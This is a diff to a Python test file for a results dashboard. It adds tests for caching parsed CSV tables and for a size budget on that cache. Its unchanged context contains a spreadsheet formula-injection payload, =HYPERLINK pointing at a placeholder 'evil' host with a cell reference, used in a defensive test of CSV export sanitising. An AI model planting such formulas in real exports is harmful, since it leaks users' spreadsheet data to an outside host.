@@ -10,6 +10,7 @@ import os
 import pytest
 
 from runs.models import Run
+from runs.reads import results as tables
 from tests.api.conftest import ended, submitted
 from tests.dashboard.test_results_page import HEADER, SWEEP, csv_text, grid_rows, out_dir
 
@@ -184,3 +185,33 @@ def test_a_downloaded_csv_runs_no_formula_but_keeps_numbers(owner_client, run, s
     ]
     page = owner_client.get(results_url(run, "results/")).json()
     assert page["results"][0]["note"] == '=HYPERLINK("http://evil/?"&A1,"x")', "the API is true"
+
+
+def test_a_table_read_again_is_parsed_once_until_its_file_changes(
+    owner_client, run, store, monkeypatch
+):
+    parsed = []
+    real = tables.parse
+    monkeypatch.setattr(tables, "parse", lambda *a, **k: parsed.append(1) or real(*a, **k))
+    monkeypatch.setattr(tables, "PARSED", tables.ParsedTables(2**20))
+
+    for n in range(16):
+        sort = f"?sort={['T', 'seed', 'unit'][n % 3]}&order={['asc', 'desc'][n % 2]}"
+        assert owner_client.get(results_url(run, "results/") + sort).status_code == 200
+    assert len(parsed) == 1
+
+    (out_dir(store, run) / "results.csv").write_text(csv_text(HEADER, grid_rows()[:2]))
+    assert owner_client.get(results_url(run, "results/")).json()["count"] == 2
+    assert len(parsed) == 2
+
+
+def test_the_parsed_tables_keep_within_their_budget_the_latest_read():
+    kept = tables.ParsedTables(budget=100)
+    table = tables.parse(b"a\n1\n", tables.Limits(1000, 10, 10), size=4)
+    kept.put("one", table, cost=60)
+    kept.put("two", table, cost=60)
+    kept.put("huge", table, cost=101)
+
+    assert kept.get("one") is None, "dropped for the newer"
+    assert kept.get("two") is table
+    assert kept.get("huge") is None, "larger than the budget: never kept"
